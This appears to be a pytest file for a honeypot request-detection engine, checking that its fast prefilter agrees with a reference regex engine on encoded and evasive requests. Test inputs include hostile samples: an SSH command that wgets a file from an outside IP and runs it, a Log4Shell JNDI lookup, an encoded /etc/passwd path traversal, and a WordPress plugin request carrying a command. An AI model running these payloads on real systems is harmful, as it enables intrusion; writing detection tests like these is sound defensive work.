"""The one-scan prefilter: exact (never drops a rule that matches), and it rules out what it should."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from honeyguard.detect import Ruleset, http_subject, raw_http_subject, raw_subject, ssh_command_subject
from honeyguard.detect import engine as engine_module
from honeyguard.detect.examples import example_subject
from honeyguard.detect.factors import NEVER, requirement
from honeyguard.detect.fields import Subject
from honeyguard.detect.httpsubject import HttpSubject
from honeyguard.detect.prefilter import MAX_CNF, Prefilter, clauses, possible
from honeyguard.detect.rules import Atom
from tests.detect._support import SCANNER_UA_RULE, builtin_engine, builtin_ruleset, write_rules

SMALL = (
    r"""
rules:
  - id: t-wp-plugin
    name: a plugin path and a command in the body
    severity: high
    protocol: http
    match:
      all:
        - field: path
          regex: '^/wp-content/plugins/(?:revslider|wp-file-manager)/'
        - field: body
          contains: 'cmd='
    examples:
      positive:
        - http: {method: POST, target: /wp-content/plugins/revslider/x.php, headers: {Host: a}, body: "cmd=id"}
      negative:
        - http: {method: POST, target: /wp-content/plugins/akismet/x.php, headers: {Host: a}, body: "cmd=id"}
"""
    + SCANNER_UA_RULE
)


def _variants(subject: Subject) -> list[bytes]:
    """The request re-encoded the ways attackers and odd clients send it; most rule fields
    decode these back, and whatever the labels are the prefilter must not drop a rule."""
    assert isinstance(subject, HttpSubject)
    raw = subject.raw_bytes()
    head, _, body = raw.partition(b"\r\n\r\n")
    line, _, headers = head.partition(b"\r\n")
    method, _, rest = line.partition(b" ")
    target, _, version = rest.rpartition(b" ")
    rng = random.Random(len(raw))
    encoded = bytes(target[:1]) + b"".join(b"%%%02X" % c if rng.random() < 0.3 and c not in b"?&=%" else bytes([c])
                                            for c in target[1:])
    double = target.replace(b"/", b"/%252e/", 1) if target.startswith(b"/") else target
    folded = headers.replace(b": ", b":\r\n ", 1)
    path, _, query = target.partition(b"?")
    return [
        b"%s %s %s\r\n%s\r\n\r\n%s" % (method, encoded, version, headers, body),
        b"%s %s %s\r\n%s\r\n\r\n%s" % (method, double, version, headers, body),
        b"%s %s %s\r\n%s\r\n\r\n%s" % (method, b"http://h" + target, version, headers, body),
        b"%s %s %s\r\n%s\r\n\r\n%s" % (method, target, version, folded, body),
        b"%s %s %s\n%s\n\n%s" % (method, target, version, headers.replace(b"\r\n", b"\n"), body),
        b"%s %s %s\r\n%s\r\n\r\n%s" % (method, target.replace(b"/", b"\\"), version, headers, body.replace(b" ", b"+")),
        # '+' forms: a space as '+' in query and body, a '+' itself escaped
        b"%s %s %s\r\n%s\r\n\r\n%s" % (method, path + b"?" + query.replace(b"%20", b"+") if query else target,
                                        version, headers, body.replace(b"%20", b"+")),
        b"%s %s %s\r\n%s\r\n\r\n%s" % (method, target.replace(b"+", b"%2B"), version, headers,
                                        body.replace(b"+", b"%2b")),
    ]


def test_prefilter_never_drops_a_rule_on_re_encoded_examples() -> None:
    ruleset = builtin_ruleset()
    fast, reference = builtin_engine("hyperscan"), builtin_engine("re")
    checked = 0
    for rule in ruleset.rules:
        for example in rule.spec.examples.positive + rule.spec.examples.negative:
            subject = example_subject(example)
            if not isinstance(subject, HttpSubject):
                continue
            for data in _variants(subject):
                assert fast.match(raw_http_subject(data)) == reference.match(raw_http_subject(data)), data[:200]
                checked += 1
    assert checked > 1000


def test_match_many_is_match_for_each() -> None:
    engine = builtin_engine("hyperscan")
    subjects = [raw_http_subject(b"GET /.env HTTP/1.1\r\nHost: a\r\n\r\n"),
                ssh_command_subject(b"cd /tmp; wget http://198.51.100.7/x; sh x"),
                raw_http_subject(b"\x16\x03\x01\x02\x00\x01"),
                raw_subject(b"*1\r\n$4\r\nINFO\r\n", "redis"),
                http_subject(b"GET", b"/", b"HTTP/1.1", [(b"Host", b"a")], b""),
                raw_http_subject(b"GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\nHost: a\r\n\r\n")]
    assert engine.match_many(subjects) == [engine.match(s) for s in subjects]
    assert any(m.rules for m in engine.match_many(subjects))


def test_ordinary_requests_build_no_field(tmp_path: Path) -> None:
    ruleset = Ruleset.load([write_rules(tmp_path, SMALL)], builtin=False)
    engine = ruleset.engine("hyperscan")
    ordinary = raw_http_subject(b"GET /index.html HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
    assert not engine.match(ordinary).rules
    assert isinstance(ordinary, HttpSubject) and ordinary._fields == {}  # nothing built, nothing split
    attack = raw_http_subject(b"POST /wp-content/plugins/revslider/a.php HTTP/1.1\r\nHost: a\r\n\r\ncmd=id")
    assert engine.match(attack).rules == ("t-wp-plugin",)
    scanner = raw_http_subject(b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: zgrab/0.x\r\n\r\n")
    assert engine.match(scanner).rules == ("t-ua",)
    # 'zgrab' in another header is not the User-Agent: the factor is bound to that header's line
    prefilter = Prefilter(ruleset.program)
    other = raw_http_subject(b"GET / HTTP/1.1\r\nHost: a\r\nReferer: http://x/zgrab/1\r\n\r\n")
    assert prefilter.candidates(other.prefilter_view()).rules == []


def test_factors_of_literals_and_regexes() -> None:
    need = requirement(Atom(field="path", op="regex", value=rb"/wp-(?:admin|content)/x\.php$", case=False))
    assert need is not None and any(("", b"x.php") in clause for clause in need)
    need = requirement(Atom(field="query", op="contains", value=b"Union Select", case=False))
    assert need is not None and need[0] == frozenset({("", b"select")})  # no space: '+' is one
    assert requirement(Atom(field="command", op="contains", value=b"wget", case=False)) == NEVER
    assert requirement(Atom(field="body", op="regex", value=rb"\d+", case=False)) is None
    need = requirement(Atom(field="header.x-api", op="regex", value=rb"\d+", case=False))
    assert need == (frozenset({("x-api", b"")}),)  # the header must at least be there


def test_view_holds_decoded_forms_and_refuses_what_cannot_be_viewed() -> None:
    view = raw_http_subject(b"GET /%2e%2e/etc/%70asswd HTTP/1.1\r\nHost: a\r\n\r\n").prefilter_view()
    assert view is not None and b"../etc/passwd" in view
    assert raw_http_subject(b"GET /?a=${lower:j}ndi HTTP/1.1\r\nHost: a\r\n\r\n").prefilter_view() is None
    folded = raw_http_subject(b"GET / HTTP/1.1\r\nUser-Agent: a\r\n zgrab/1\r\n\r\n")
    assert folded.prefilter_view() is None


def _random_tree(rng: random.Random, depth: int) -> tuple[object, ...]:
    if depth == 0 or rng.random() < 0.3:
        return ("leaf", frozenset(rng.sample(range(8), rng.randint(1, 3))))
    return (rng.choice(("all", "any")), tuple(_random_tree(rng, depth - 1) for _ in range(rng.randint(1, 3))))


def test_upper_trees_as_clauses_hold_exactly_when_the_tree_does() -> None:
    rng = random.Random(5)
    converted = 0
    for _ in range(400):
        tree = _random_tree(rng, 3)
        found = clauses(tree)
        if found is None:
            continue
        converted += 1
        assert len(found) <= MAX_CNF
        for _ in range(30):
            hits = set(rng.sample(range(8), rng.randint(0, 5)))
            assert all(not hits.isdisjoint(clause) for clause in found) == possible(tree, hits), (tree, hits)
    assert converted > 200


def test_kept_outcomes_stay_bounded_across_candidate_sets(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each candidate set remembers which rules hold for each set of atoms hit; all of them
    together stay within MAX_OUTCOMES_KEPT, and forgetting changes no label."""
    monkeypatch.setattr(engine_module, "MAX_OUTCOMES_KEPT", 8)
    fast = builtin_ruleset().engine("hyperscan")
    reference = builtin_engine("re")
    requests = [
        raw_http_subject(data)
        for rule in builtin_ruleset().rules
        for example in rule.spec.examples.positive
        if isinstance(subject := example_subject(example), HttpSubject)
        for data in [subject.raw_bytes()]
    ]
    assert len(requests) > 100
    for subject in requests:
        assert fast.match(subject) == reference.match(raw_http_subject(subject.raw_bytes()))
        assert sum(len(c.outcomes) for c in fast._outcome_holders) <= 8
    assert fast._outcome_holders  # something was kept
